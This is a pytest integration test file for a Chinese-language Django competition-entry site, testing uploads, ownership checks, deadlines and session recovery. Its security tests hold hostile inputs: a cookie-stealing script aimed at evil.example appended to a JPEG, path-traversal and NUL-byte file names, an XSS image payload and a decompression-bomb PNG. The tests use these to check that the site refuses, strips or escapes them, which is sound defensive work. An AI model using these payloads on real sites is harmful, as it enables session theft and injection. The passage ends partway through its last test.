"""Integration tests of the team's entry pages (``competition.views``) through the test client.

Each bad-input test checks three things: the message is in Chinese and names the problem, the
rest of what the team typed comes back in the page, and nothing half-saved is left (no extra
rows, no extra files in the private storage folder).
"""

import io
import itertools
import re
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from django.conf import settings
from django.contrib.sessions.models import Session
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from PIL import Image
from pypdf import PdfReader

from common.storage import private_storage
from competition.models import Entry, EntryAttachment, EntryEvent, EntryPhoto
from tests import factories
from tests.files import gps_exif, jpeg_bytes, padded, pdf_bytes, png_header_only, svg_bytes, upload, zip_bytes

pytestmark = pytest.mark.django_db

NBSP = "\xa0"
TITLE = "银龄课堂社区老年人智能手机帮学"
SUMMARY = "组织大学生志愿者每周两次进社区，手把手教老人用智能手机。"
OUTCOMES = "累计服务老年人一千二百余人次，九成学员学会视频通话。"
UNREADABLE = "“{}”无法读取，文件可能已损坏或不是 JPEG、PNG、WebP 图片。"


# --- helpers ---------------------------------------------------------------------------------


def entry_post(**overrides) -> dict:
    """Everything a team types into a complete entry form, as the browser posts it."""
    data = {
        "category": str(factories.category("education").pk),
        "title": TITLE,
        "summary": SUMMARY,
        "need": "社区老人不会用手机挂号、缴费。",
        "approach": "每周二、周四下午在社区活动室开课，一对一辅导。",
        "innovation": "编写大字版图文教程，老人带回家可反复看。",
        "outcomes": OUTCOMES,
        "volunteers": "18",
        "beneficiaries": "1200",
        "service_hours": "960",
        "activities": "96",
        "started_on": "2021-04-01",
        "consent_publish": "on",
        "consent_guardians": "on",
        "save": "1",
    }
    data.update(overrides)
    return {key: value for key, value in data.items() if value is not None}


def create_url(contest) -> str:
    return reverse("competition:entry_create", args=[contest.slug])


def edit_url(entry) -> str:
    return reverse("competition:entry_edit", args=[entry.public_id])


def detail_url(entry) -> str:
    return reverse("competition:entry_detail", args=[entry.public_id])


def stored_files() -> list[str]:
    """Every file in this test's private storage folder, relative to it."""
    root = Path(settings.PRIVATE_MEDIA_ROOT)
    if not root.exists():
        return []
    return sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file())


def without_tokens(content: bytes) -> bytes:
    """A page with what differs per request blanked out: CSRF tokens, CSP nonces, the ids in
    the page's own address (the language switcher links back to it)."""
    content = re.sub(rb'name="csrfmiddlewaretoken" value="[^"]*"', b"", content)
    content = re.sub(rb'nonce="[^"]*"', b"", content)
    return re.sub(rb"[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}", b"<id>", content)


def page(response) -> str:
    return response.content.decode()


def messages_of(response) -> list[str]:
    return [str(m) for m in response.context["messages"]]


_colors = itertools.count()


def photo(name="活动现场.jpg", **kwargs):
    """A real JPEG; each call a different picture (the same one twice is refused as a duplicate)."""
    if "color" not in kwargs:
        n = next(_colors)
        kwargs["color"] = (n * 37 % 256, n * 91 % 256, 200 - n % 100)
    return upload(name, jpeg_bytes(**kwargs), "image/jpeg")


def pdf(name="申报书.pdf", **kwargs):
    return upload(name, pdf_bytes(**kwargs), "application/pdf")


def assert_typed_text_kept(response):
    html = page(response)
    assert (f'value="{TITLE}"' in html, SUMMARY in html, OUTCOMES in html) == (True, True, True)


def multipart_body(fields: dict, files: list[tuple[str, bytes, bytes]]) -> tuple[bytes, str]:
    """A multipart body written by hand, so that a raw file name (with "../" or NUL) reaches
    the server exactly as a hostile client would send it."""
    boundary = "vc-" + uuid.uuid4().hex
    parts = []
    for name, value in fields.items():
        parts.append(
            f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode()
        )
    for field, raw_name, content in files:
        parts.append(
            f'--{boundary}\r\nContent-Disposition: form-data; name="{field}"; filename="'.encode()
            + raw_name
            + b'"\r\nContent-Type: application/pdf\r\n\r\n'
            + content
            + b"\r\n"
        )
    parts.append(f"--{boundary}--\r\n".encode())
    return b"".join(parts), f"multipart/form-data; boundary={boundary}"


# --- happy paths -----------------------------------------------------------------------------


def test_entry_create_draft_with_two_photos_and_a_pdf_saves_rows_and_files(team, team_client, contest):
    response = team_client.post(
        create_url(contest),
        entry_post(new_photos=[photo("一.jpg"), photo("二.jpg")], new_attachments=[pdf("申报书.pdf")]),
    )

    entry = Entry.objects.get()
    assert response.status_code == 302
    assert response.url == edit_url(entry)
    assert (entry.team, entry.status, entry.title) == (team, Entry.Status.DRAFT, TITLE)
    assert entry.photos.count() == 2
    assert list(entry.attachments.values_list("title", "pages")) == [("申报书.pdf", 1)]
    assert stored_files() == sorted(
        [p.file.name for p in entry.photos.all()] + [a.file.name for a in entry.attachments.all()]
    )
    assert list(entry.events.values_list("kind", flat=True)) == [EntryEvent.Kind.CREATED]


def test_entry_create_page_shows_the_saved_message_after_redirect(team_client, contest):
    response = team_client.post(create_url(contest), entry_post(new_photos=[photo()]), follow=True)

    assert messages_of(response) == ["草稿已保存。"]
    assert_typed_text_kept(response)


def test_entry_edit_changes_captions_and_deletes_a_photo(
    team, team_client, contest, django_capture_on_commit_callbacks
):
    entry = factories.EntryFactory(team=team, contest=contest)
    kept = factories.add_photo(entry, caption="旧说明")
    doomed = factories.add_photo(entry, caption="要删的")

    with django_capture_on_commit_callbacks(execute=True):
        response = team_client.post(
            edit_url(entry),
            entry_post(
                version=str(entry.version),
                **{
                    f"photo-{kept.public_id}-caption": "老人学会视频通话",
                    f"photo-{doomed.public_id}-caption": "要删的",
                    f"photo-{doomed.public_id}-delete": "on",
                },
            ),
        )

    entry.refresh_from_db()
    assert response.status_code == 302
    assert list(entry.photos.values_list("caption", flat=True)) == ["老人学会视频通话"]
    assert stored_files() == [kept.file.name]
    assert entry.version == 2
    event = entry.events.get(kind=EntryEvent.Kind.SAVED)
    assert (event.changes["photo_captions"], event.changes["photos_removed"]) == (["老人学会视频通话"], 1)


def test_entry_submit_complete_draft_goes_to_the_status_page(team, team_client, contest):
    entry = factories.EntryFactory(team=team, contest=contest)
    factories.add_photo(entry)

    response = team_client.post(
        edit_url(entry), entry_post(version=str(entry.version), save=None, submit="1"), follow=True
    )

    entry.refresh_from_db()
    assert response.redirect_chain == [(detail_url(entry), 302)]
    assert entry.status == Entry.Status.SUBMITTED
    assert messages_of(response) == ["项目已提交。截止时间前仍可修改或撤回。"]


def test_entry_submit_incomplete_draft_keeps_it_and_names_what_is_missing(team, team_client, contest):
    entry = factories.EntryFactory(team=team, contest=contest)

    response = team_client.post(
        edit_url(entry),
        entry_post(version=str(entry.version), need="", save=None, submit="1"),
        follow=True,
    )

    entry.refresh_from_db()
    assert (entry.status, entry.need, entry.title) == (Entry.Status.DRAFT, "", TITLE)
    assert messages_of(response) == [
        "已保存为草稿，但还不能提交： 请填写“针对的需求”。 请至少上传 1 张项目照片。"
    ]


def test_entry_withdraw_then_reopen_through_the_pages(team, team_client, contest):
    entry = factories.EntryFactory(team=team, contest=contest, submitted=True)

    withdrawn = team_client.post(reverse("competition:entry_withdraw", args=[entry.public_id]), follow=True)
    entry.refresh_from_db()
    status_after_withdraw = entry.status
    reopened = team_client.post(reverse("competition:entry_reopen", args=[entry.public_id]), follow=True)

    entry.refresh_from_db()
    assert status_after_withdraw == Entry.Status.WITHDRAWN
    assert messages_of(withdrawn) == ["项目已撤回。截止时间前可以恢复为草稿继续申报。"]
    assert entry.status == Entry.Status.DRAFT
    assert reopened.redirect_chain == [(edit_url(entry), 302)]
    assert messages_of(reopened) == ["项目已恢复为草稿。"]


def test_entry_withdraw_by_get_is_not_allowed(team, team_client, contest):
    entry = factories.EntryFactory(team=team, contest=contest, submitted=True)

    response = team_client.get(reverse("competition:entry_withdraw", args=[entry.public_id]))

    entry.refresh_from_db()
    assert response.status_code == 405
    assert entry.status == Entry.Status.SUBMITTED


def test_entry_detail_shows_history_and_missing_parts(team, team_client, contest):
    entry = factories.EntryFactory(team=team, contest=contest, summary="")

    response = team_client.get(detail_url(entry))

    assert response.status_code == 200
    assert response.context["missing"] == ["请填写“项目简介”。", "请至少上传 1 张项目照片。"]


# --- file views ------------------------------------------------------------------------------


def test_photo_file_owner_gets_the_bytes_privately(team, team_client, contest):
    entry = factories.EntryFactory(team=team, contest=contest)
    content = jpeg_bytes(color=(1, 2, 3))
    stored = factories.add_photo(entry, content=content)

    response = team_client.get(reverse("competition:photo_file", args=[stored.public_id]))

    assert response.status_code == 200
    assert b"".join(response.streaming_content) == content
    assert (response["Content-Type"], response["Cache-Control"]) == ("image/jpeg", "private, no-store")
    assert response["X-Content-Type-Options"] == "nosniff"


def test_photo_file_of_another_team_is_404(team_client, other_team, contest):
    other_photo = factories.add_photo(factories.EntryFactory(team=other_team, contest=contest))

    forged = team_client.get(reverse("competition:photo_file", args=[other_photo.public_id]))
    unknown = team_client.get(reverse("competition:photo_file", args=[uuid.uuid4()]))

    assert (forged.status_code, unknown.status_code) == (404, 404)


def test_photo_file_anonymous_is_sent_to_login(team, contest):
    stored = factories.add_photo(factories.EntryFactory(team=team, contest=contest))
    url = reverse("competition:photo_file", args=[stored.public_id])

    response = Client().get(url)

    assert response.status_code == 302
    assert response.url == f"{reverse('accounts:login')}?next={url}"


def test_attachment_file_owner_gets_the_pdf_under_its_title(team, team_client, contest):
    entry = factories.EntryFactory(team=team, contest=contest)
    team_client.post(edit_url(entry), entry_post(version="1", new_attachments=[pdf("项目总结.pdf")]))
    attachment = entry.attachments.get()

    response = team_client.get(reverse("competition:attachment_file", args=[attachment.public_id]))

    body = b"".join(response.streaming_content)
    assert response.status_code == 200
    assert body[:5] == b"%PDF-"
    assert response["Cache-Control"] == "private, no-store"
    assert (
        response["Content-Disposition"] == "inline; filename*=utf-8''%E9%A1%B9%E7%9B%AE%E6%80%BB%E7%BB%93.pdf"
    )


def test_attachment_file_of_another_team_is_404(team_client, other_team, contest):
    other_entry = factories.EntryFactory(team=other_team, contest=contest)
    other_client = Client()
    other_client.force_login(other_team.user)
    other_client.post(edit_url(other_entry), entry_post(version="1", new_attachments=[pdf()]))
    attachment = other_entry.attachments.get()

    response = team_client.get(reverse("competition:attachment_file", args=[attachment.public_id]))

    assert response.status_code == 404


# --- bad photos ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("活动照片.jpg", "这是一份文字说明，不是照片。".encode() * 20, UNREADABLE.format("活动照片.jpg")),
        ("传了一半.jpg", jpeg_bytes(width=640, height=480)[:1500], UNREADABLE.format("传了一半.jpg")),
        ("bomb.png", png_header_only(30000, 30000), "“bomb.png”的尺寸过大，每张照片不能超过 25 百万像素。"),
        ("logo.svg", svg_bytes(), UNREADABLE.format("logo.svg")),
    ],
    ids=["non-image-renamed-jpg", "truncated-jpeg", "decompression-bomb-png", "svg"],
)
def test_entry_create_bad_photo_is_refused_and_text_kept(team_client, contest, name, content, message):
    response = team_client.post(
        create_url(contest), entry_post(new_photos=[photo("好照片.jpg"), upload(name, content)])
    )

    assert response.status_code == 200
    assert response.context["form"].errors == {"new_photos": [message]}
    assert message in page(response)
    assert_typed_text_kept(response)
    assert (Entry.objects.count(), EntryPhoto.objects.count(), stored_files()) == (0, 0, [])


def test_entry_edit_bad_photo_leaves_the_stored_entry_as_it_was(team, team_client, contest):
    entry = factories.EntryFactory(team=team, contest=contest, title="原来的标题")
    existing = factories.add_photo(entry)

    response = team_client.post(
        edit_url(entry),
        entry_post(version=str(entry.version), new_photos=[upload("坏.jpg", b"GIF89a not really")]),
    )

    entry.refresh_from_db()
    assert response.context["form"].errors == {"new_photos": [UNREADABLE.format("坏.jpg")]}
    assert_typed_text_kept(response)
    assert (entry.title, entry.version, entry.events.count()) == ("原来的标题", 1, 0)
    assert stored_files() == [existing.file.name]


def test_entry_create_jpeg_with_appended_html_is_stored_without_it(team_client, contest):
    script = b"<script>document.location='https://evil.example/?c='+document.cookie</script>"

    team_client.post(create_url(contest), entry_post(new_photos=[upload("合影.jpg", jpeg_bytes() + script)]))

    stored = EntryPhoto.objects.get()
    with private_storage().open(stored.file.name) as f:
        content = f.read()
    assert (content.count(b"<script"), content.count(b"evil.example")) == (0, 0)
    assert content[-2:] == b"\xff\xd9"


def test_entry_create_photo_with_gps_is_stored_without_exif(team_client, contest):
    team_client.post(create_url(contest), entry_post(new_photos=[photo("定位.jpg", exif=gps_exif())]))

    stored = EntryPhoto.objects.get()
    with private_storage().open(stored.file.name) as f:
        exif = Image.open(io.BytesIO(f.read())).getexif()
    assert exif.get_ifd(0x8825) == {}  # GPS
    assert (exif.get(0x0110), exif.get(0x013B)) == (None, None)  # Model, Artist
    assert dict(exif) == {}


def test_entry_create_ten_photos_are_refused(team_client, contest):
    photos = [photo(f"第{i}张.jpg") for i in range(1, 11)]

    response = team_client.post(create_url(contest), entry_post(new_photos=photos))

    message = "每个项目最多 9 张照片：已有 0 张，本次又选了 10 张。"
    assert response.context["form"].errors == {"new_photos": [message]}
    assert message in page(response)
    assert_typed_text_kept(response)
    assert (Entry.objects.count(), EntryPhoto.objects.count(), stored_files()) == (0, 0, [])


def test_entry_create_nine_photos_are_accepted(team_client, contest):
    photos = [photo(f"第{i}张.jpg") for i in range(1, 10)]

    response = team_client.post(create_url(contest), entry_post(new_photos=photos))

    assert response.status_code == 302
    assert (EntryPhoto.objects.count(), len(stored_files())) == (9, 9)


def test_entry_edit_photos_over_nine_counting_stored_ones_are_refused(team, team_client, contest):
    entry = factories.EntryFactory(team=team, contest=contest)
    existing = [factories.add_photo(entry) for _ in range(8)]
    before = stored_files()

    response = team_client.post(
        edit_url(entry), entry_post(version="1", new_photos=[photo("九.jpg"), photo("十.jpg")])
    )

    message = "每个项目最多 9 张照片：已有 8 张，本次又选了 2 张。"
    assert response.context["form"].errors == {"new_photos": [message]}
    assert_typed_text_kept(response)
    assert (EntryPhoto.objects.count(), stored_files()) == (len(existing), before)


def test_entry_create_oversize_photo_is_refused(settings, team_client, contest):
    settings.ENTRY_PHOTO_MAX_BYTES = 2048

    response = team_client.post(
        create_url(contest), entry_post(new_photos=[upload("大照片.jpg", padded(jpeg_bytes(), 3072))])
    )

    message = f"“大照片.jpg”太大（3.0{NBSP}KB），每个文件不能超过 2.0{NBSP}KB。"
    assert response.context["form"].errors == {"new_photos": [message]}
    assert message in page(response)
    assert_typed_text_kept(response)
    assert (Entry.objects.count(), stored_files()) == (0, [])


# --- bad PDFs --------------------------------------------------------------------------------


def test_entry_create_oversize_pdf_is_refused(settings, team_client, contest):
    settings.ENTRY_PDF_MAX_BYTES = 2048

    response = team_client.post(
        create_url(contest),
        entry_post(new_photos=[photo()], new_attachments=[upload("大附件.pdf", padded(pdf_bytes(), 3072))]),
    )

    message = f"“大附件.pdf”太大（3.0{NBSP}KB），每个文件不能超过 2.0{NBSP}KB。"
    assert response.context["form"].errors == {"new_attachments": [message]}
    assert message in page(response)
    assert_typed_text_kept(response)
    assert (Entry.objects.count(), EntryPhoto.objects.count(), stored_files()) == (0, 0, [])


def test_entry_create_zip_renamed_pdf_is_refused(team_client, contest):
    response = team_client.post(
        create_url(contest),
        entry_post(
            new_photos=[photo()], new_attachments=[upload("材料.pdf", zip_bytes(), "application/pdf")]
        ),
    )

    message = "“材料.pdf”不是 PDF 文件，附件只接受 PDF 格式。"
    assert response.context["form"].errors == {"new_attachments": [message]}
    assert message in page(response)
    assert_typed_text_kept(response)
    assert (Entry.objects.count(), EntryAttachment.objects.count(), stored_files()) == (0, 0, [])


def test_entry_create_pdf_is_stored_without_its_metadata(team_client, contest):
    team_client.post(
        create_url(contest),
        entry_post(new_attachments=[pdf("申报书.pdf", title="红马甲申报材料", author="张建国")]),
    )

    stored = EntryAttachment.objects.get()
    with private_storage().open(stored.file.name) as f:
        content = f.read()
    metadata = PdfReader(io.BytesIO(content)).metadata or {}
    assert (metadata.get("/Title"), metadata.get("/Author"), metadata.get("/Creator")) == (None, None, None)
    assert content.count(b"WPS Office") == 0


def test_entry_create_fourth_pdf_is_refused(team_client, contest):
    pdfs = [pdf(f"附件{i}.pdf") for i in range(1, 5)]

    response = team_client.post(create_url(contest), entry_post(new_attachments=pdfs))

    message = "每个项目最多 3 个 PDF 附件：已有 0 个，本次又选了 4 个。"
    assert response.context["form"].errors == {"new_attachments": [message]}
    assert_typed_text_kept(response)
    assert (Entry.objects.count(), stored_files()) == (0, [])


# --- hostile file names ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw_name", "title"),
    [
        ("../../../../etc/cron.d/申报书.pdf".encode(), "申报书.pdf"),
        ("总结\x00.pdf.exe\x00.pdf".encode(), "总结.pdf.exe.pdf"),
        (("长" * 296 + ".pdf").encode(), "长" * 76 + ".pdf"),
    ],
    ids=["dot-dot-slash", "nul-byte", "300-characters"],
)
def test_entry_create_hostile_file_name_is_never_used_on_disk(team_client, contest, raw_name, title):
    fields = entry_post(creation_token=str(uuid.uuid4()))
    body, content_type = multipart_body(fields, [("new_attachments", raw_name, pdf_bytes())])

    response = team_client.post(create_url(contest), body, content_type=content_type)

    attachment = EntryAttachment.objects.get()
    assert response.status_code == 302
    assert attachment.title == title
    assert stored_files() == [attachment.file.name]
    folder, shard, random_name = attachment.file.name.split("/")
    assert (folder, len(shard), len(random_name)) == ("attachments", 4, len("0" * 32 + ".pdf"))
    assert [n for n in ("申报书", "总结", "长", "..", "\x00") if n in attachment.file.name] == []


def test_entry_detail_shows_the_safe_attachment_name_escaped(team, team_client, contest):
    entry = factories.EntryFactory(team=team, contest=contest)
    fields = entry_post(version="1")
    body, content_type = multipart_body(
        fields, [("new_attachments", b"<img src=x onerror=alert(1)>.pdf", pdf_bytes())]
    )
    team_client.post(edit_url(entry), body, content_type=content_type)

    response = team_client.get(detail_url(entry))

    assert EntryAttachment.objects.get().title == "<img src=x onerror=alert(1)>.pdf"
    html = page(response)
    assert (html.count("&lt;img src=x onerror=alert(1)&gt;.pdf"), html.count("<img src=x")) == (1, 0)


# --- forged ids ------------------------------------------------------------------------------


@pytest.mark.parametrize("view", ["entry_detail", "entry_edit"])
def test_entry_page_of_another_team_is_404_like_an_unknown_id(team_client, other_team, contest, view):
    other_entry = factories.EntryFactory(team=other_team, contest=contest)

    forged = team_client.get(reverse(f"competition:{view}", args=[other_entry.public_id]))
    unknown = team_client.get(reverse(f"competition:{view}", args=[uuid.uuid4()]))

    assert (forged.status_code, unknown.status_code) == (404, 404)
    assert without_tokens(forged.content) == without_tokens(unknown.content)


def test_entry_edit_post_to_another_teams_entry_is_404_and_changes_nothing(team_client, other_team, contest):
    other_entry = factories.EntryFactory(team=other_team, contest=contest, title="别人的项目")

    response = team_client.post(
        edit_url(other_entry), entry_post(version="1", new_photos=[photo()], title="被改掉了")
    )

    other_entry.refresh_from_db()
    assert response.status_code == 404
    assert (other_entry.title, other_entry.version, EntryPhoto.objects.count()) == ("别人的项目", 1, 0)
    assert stored_files() == []


@pytest.mark.parametrize("view", ["entry_withdraw", "entry_reopen"])
def test_entry_status_change_of_another_team_is_404(team_client, other_team, contest, view):
    status = Entry.Status.SUBMITTED if view == "entry_withdraw" else Entry.Status.WITHDRAWN
    other_entry = factories.EntryFactory(
        team=other_team, contest=contest, status=status, submitted_at=timezone.now()
    )

    response = team_client.post(reverse(f"competition:{view}", args=[other_entry.public_id]))

    other_entry.refresh_from_db()
    assert response.status_code == 404
    assert (other_entry.status, other_entry.events.count()) == (status, 0)


def test_entry_edit_with_another_teams_photo_id_in_the_form_leaves_that_photo_alone(
    team, team_client, other_team, contest, django_capture_on_commit_callbacks
):
    entry = factories.EntryFactory(team=team, contest=contest)
    other_photo = factories.add_photo(
        factories.EntryFactory(team=other_team, contest=contest), caption="原说明"
    )

    with django_capture_on_commit_callbacks(execute=True):
        response = team_client.post(
            edit_url(entry),
            entry_post(
                version="1",
                **{
                    f"photo-{other_photo.public_id}-delete": "on",
                    f"photo-{other_photo.public_id}-caption": "被改掉了",
                },
            ),
        )

    other_photo.refresh_from_db()
    assert response.status_code == 302
    assert other_photo.caption == "原说明"
    assert private_storage().exists(other_photo.file.name)
    assert EntryPhoto.objects.filter(pk=other_photo.pk).count() == 1


def test_entry_create_with_another_teams_creation_token_makes_nothing_and_changes_nothing(
    team_client, other_team, contest
):
    token = uuid.uuid4()
    other_entry = factories.EntryFactory(
        team=other_team, contest=contest, creation_token=token, title="别人的"
    )

    response = team_client.post(
        create_url(contest), entry_post(creation_token=str(token), new_photos=[photo()])
    )

    other_entry.refresh_from_db()
    message = (
        "这份表单已失效，本次内容没有保存。请重新打开“新建参赛项目”页面填写（可先复制下方您填写的内容）。"
    )
    assert response.status_code == 200
    assert response.context["form"].non_field_errors() == [message]
    assert message in page(response)
    assert_typed_text_kept(response)
    assert (Entry.objects.count(), other_entry.title, EntryPhoto.objects.count()) == (1, "别人的", 0)
    assert stored_files() == []


# --- double click ----------------------------------------------------------------------------


def test_entry_create_double_click_makes_one_entry(team, team_client, contest):
    token = str(uuid.uuid4())

    first = team_client.post(create_url(contest), entry_post(creation_token=token, new_photos=[photo()]))
    second = team_client.post(create_url(contest), entry_post(creation_token=token, new_photos=[photo()]))

    entry = Entry.objects.get()
    assert (first.status_code, second.status_code) == (302, 302)
    assert first.url == second.url == edit_url(entry)
    assert (EntryPhoto.objects.count(), len(stored_files())) == (1, 1)
    assert entry.events.count() == 1


def test_entry_create_form_carries_a_fresh_creation_token(team_client, contest):
    first = team_client.get(create_url(contest))
    second = team_client.get(create_url(contest))

    tokens = {
        first.context["form"]["creation_token"].value(),
        second.context["form"]["creation_token"].value(),
    }
    assert len(tokens) == 2


# --- deadline --------------------------------------------------------------------------------


# 2027-01-01 00:00 in Beijing is 2026-12-31 16:00 UTC: the message gives the Beijing time.
DEADLINE = datetime(2026, 12, 31, 16, 0, tzinfo=UTC)
DEADLINE_MESSAGE = "申报已于 2027-01-01 00:00（北京时间）截止，本次修改未能保存；已保存的内容不受影响。"


def closed_one_second_ago(time_machine):
    time_machine.move_to(DEADLINE + timedelta(seconds=1))
    contest = factories.ContestFactory(
        submission_opens=DEADLINE - timedelta(days=30), submission_closes=DEADLINE
    )
    return contest, DEADLINE_MESSAGE


def test_entry_form_gives_the_deadline_in_beijing_time(team_client, time_machine):
    time_machine.move_to(DEADLINE - timedelta(hours=1))
    contest = factories.ContestFactory(
        submission_opens=DEADLINE - timedelta(days=30), submission_closes=DEADLINE
    )

    assert "截止 2027年1月1日 00:00（北京时间）" in page(team_client.get(create_url(contest)))


def test_entry_create_one_second_after_deadline_is_refused_and_text_kept(team_client, time_machine):
    contest, message = closed_one_second_ago(time_machine)

    response = team_client.post(create_url(contest), entry_post(new_photos=[photo()]))

    assert response.status_code == 200
    assert response.context["form"].non_field_errors() == [message]
    assert message in page(response)
    assert_typed_text_kept(response)
    assert (Entry.objects.count(), EntryPhoto.objects.count(), stored_files()) == (0, 0, [])


def test_entry_edit_one_second_after_deadline_keeps_the_stored_draft(team, team_client, time_machine):
    contest, message = closed_one_second_ago(time_machine)
    entry = factories.EntryFactory(team=team, contest=contest, title="截止前保存的标题")
    existing = factories.add_photo(entry)

    response = team_client.post(
        edit_url(entry), entry_post(version="1", save=None, submit="1", new_photos=[photo()])
    )

    entry.refresh_from_db()
    assert response.context["form"].non_field_errors() == [message]
    assert message in page(response)
    assert_typed_text_kept(response)
    assert (entry.title, entry.status, entry.version, entry.events.count()) == (
        "截止前保存的标题",
        Entry.Status.DRAFT,
        1,
        0,
    )
    assert stored_files() == [existing.file.name]


def test_entry_withdraw_after_deadline_is_refused_with_a_message(team, team_client, time_machine):
    contest, message = closed_one_second_ago(time_machine)
    entry = factories.EntryFactory(team=team, contest=contest, submitted=True)

    response = team_client.post(reverse("competition:entry_withdraw", args=[entry.public_id]), follow=True)

    entry.refresh_from_db()
    assert messages_of(response) == [message]
    assert entry.status == Entry.Status.SUBMITTED


# --- concurrent edits ------------------------------------------------------------------------


def test_entry_edit_stale_version_is_refused_and_a_reviewed_resave_succeeds(team, team_client, contest):
    entry = factories.EntryFactory(team=team, contest=contest)
    team_client.post(edit_url(entry), entry_post(version="1", title="另一个窗口保存的"))

    conflict = team_client.post(edit_url(entry), entry_post(version="1"))
    resaved = team_client.post(edit_url(entry), conflict.context["form"].data)

    entry.refresh_from_db()
    assert conflict.status_code == 200
    assert conflict.context["form"].non_field_errors()[0].startswith("这个项目已在其他窗口或设备上保存过")
    assert_typed_text_kept(conflict)
    assert resaved.status_code == 302
    assert (entry.title, entry.version) == (TITLE, 3)


# --- session expired while the form was open -------------------------------------------------


def log_in_again(client: Client, user, next_url: str):
    """Open the log-in page the expired form was sent to, log in; return both responses."""
    login_page = client.get(reverse("accounts:login"), {"next": next_url})
    return login_page, client.post(
        reverse("accounts:login"),
        {
            "username": user.username,
            "password": factories.PASSWORD,
            "next": next_url,
            "csrfmiddlewaretoken": login_page.context["csrf_token"],
        },
    )


def expire_all_sessions():
    Session.objects.all().delete()


def test_entry_create_after_session_expired_gives_the_text_back_after_login(team, contest):
    client = Client(enforce_csrf_checks=True)
    client.force_login(team.user)
    form_page = client.get(create_url(contest))
    token = form_page.context["form"]["creation_token"].value()
    expire_all_sessions()

    posted = client.post(
        create_url(contest),
        entry_post(
            creation_token=str(token),
            owner=form_page.context["form"]["owner"].value(),
            csrfmiddlewaretoken=form_page.context["csrf_token"],
            new_photos=[photo()],
        ),
    )
    login_page, logged_in = log_in_again(client, team.user, create_url(contest))
    again = client.get(create_url(contest))

    assert posted.status_code == 302
    assert posted.url == f"{reverse('accounts:login')}?next={create_url(contest)}"
    assert messages_of(login_page) == [
        "登录已过期。您填写的文字已为您保留，重新登录后会自动填回（照片和附件需要重新选择）。"
    ]
    assert logged_in.status_code == 302
    assert logged_in.url == create_url(contest)
    assert messages_of(again) == ["已填回您登录过期前填写的内容，请检查后保存。"]
    assert_typed_text_kept(again)
    assert again.context["form"]["creation_token"].value() == str(token)
    assert again.context["form"]["consent_publish"].value() is True
    assert (Entry.objects.count(), stored_files()) == (0, [])


def test_entry_edit_after_session_expired_gives_the_text_and_captions_back(team, contest):
    entry = factories.EntryFactory(team=team, contest=contest, title="旧标题")
    stored = factories.add_photo(entry, caption="旧说明")
    client = Client()
    client.force_login(team.user)
    owner = client.get(edit_url(entry)).context["form"]["owner"].value()
    expire_all_sessions()

    posted = client.post(
        edit_url(entry),
        entry_post(version="1", owner=owner, **{f"photo-{stored.public_id}-caption": "新写的说明"}),
    )
    log_in_again(client, team.user, edit_url(entry))
    again = client.get(edit_url(entry))
    resaved = client.post(edit_url(entry), again.context["form"].data)

    entry.refresh_from_db()
    stored.refresh_from_db()
    assert posted.url == f"{reverse('accounts:login')}?next={edit_url(entry)}"
    assert_typed_text_kept(again)
    assert 'value="新写的说明"' in page(again)
    assert resaved.status_code == 302
    assert (entry.title, stored.caption) == (TITLE, "新写的说明")


def test_entry_create_rescued_text_is_given_back_only_once(team, contest):
    client = Client()
    client.force_login(team.user)
    owner = client.get(create_url(contest)).context["form"]["owner"].value()
    expire_all_sessions()
    client.post(create_url(contest), entry_post(owner=owner))
    log_in_again(client, team.user, create_url(contest))

    first = client.get(create_url(contest))
    second = client.get(create_url(contest))

    assert (TITLE in page(first), TITLE in page(second)) == (True, False)


def test_entry_create_rescued_text_is_not_given_to_another_user_of_the_browser(team, other_team, contest):
    client = Client()
    client.force_login(team.user)
    owner = client.get(create_url(contest)).context["form"]["owner"].value()
    expire_all_sessions()
    client.post(create_url(contest), entry_post(owner=owner))

    log_in_again(client, other_team.user, create_url(contest))
    shown = client.get(create_url(contest))

    assert TITLE not in page(shown)
    assert messages_of(shown) == []


def test_entry_create_without_a_signed_owner_rescues_nothing(team, contest):
    client = Client()
    client.force_login(team.user)
    expire_all_sessions()

    posted = client.post(create_url(contest), entry_post(owner="forged"))
    log_in_again(client, team.user, create_url(contest))
    shown = client.get(create_url(contest))

    assert posted.url == f"{reverse('accounts:login')}?next={create_url(contest)}"
    assert TITLE not in page(shown)


# --- query counts ----------------------------------------------------------------------------


@pytest.mark.parametrize("n", [1, 3])
def test_dashboard_query_count_does_not_grow_with_entries(
    team, team_client, contest, django_assert_num_queries, n
):
    for _ in range(n):
        entry = factories.EntryFactory(team=team, contest=contest, submitted=True)
        factories.add_photo(entry)

    # 6 since issue 11: the inbox link's unread count (one query, whatever the messages).
    with django_assert_num_queries(6):
        response = team_client.get(reverse("competition:dashboard"))

    assert len(response.context["entries"]) == n


@pytest.mark.parametrize("n", [1, 3])
def test_entry_edit_page_query_count_does_not_grow_with_photos(
    team, team_client, contest, django_assert_num_queries, n
):
    entry = factories.EntryFactory(team=team, contest=contest)
    for i in range(n):
        factories.add_photo(entry, caption=f"说明{i}")
    team_client.post(edit_url(entry), entry_post(version="1", new_attachments=[pdf() for _ in range(n)]))

    with django_assert_num_queries(7):
        response = team_client.get(edit_url(entry))

    assert (len(response.context["form"].photos), len(response.context["form"].attachments)) == (n, n)


@pytest.mark.parametrize("n", [1, 3])
def test_entry_detail_query_count_does_not_grow_with_photos_and_history(
    team, team_client, contest, django_assert_num_queries, n
):
    entry = factories.EntryFactory(team=team, contest=contest)
    for i in range(n):
        factories.add_photo(entry, caption=f"说明{i}")
        team_client.post(edit_url(entry), entry_post(version=str(i + 1), new_attachments=[pdf()]))

    with django_assert_num_queries(9):
        response = team_client.get(detail_url(entry))

    assert (len(response.context["entry"].photos.all()), len(response.context["history"])) == (n, n)


# --- upload cost: pixel budget per request, uploads per hour (issue 10) ------------------------


def test_entry_create_photos_beyond_the_pixel_budget_are_refused_and_text_kept(
    team_client, contest, settings
):
    settings.ENTRY_UPLOAD_PIXEL_BUDGET = 3 * 64 * 48  # three small photos' worth

    response = team_client.post(
        create_url(contest),
        entry_post(new_photos=[photo("一.jpg"), photo("二.jpg"), photo("三.jpg"), photo("四.jpg")]),
    )

    assert response.status_code == 200
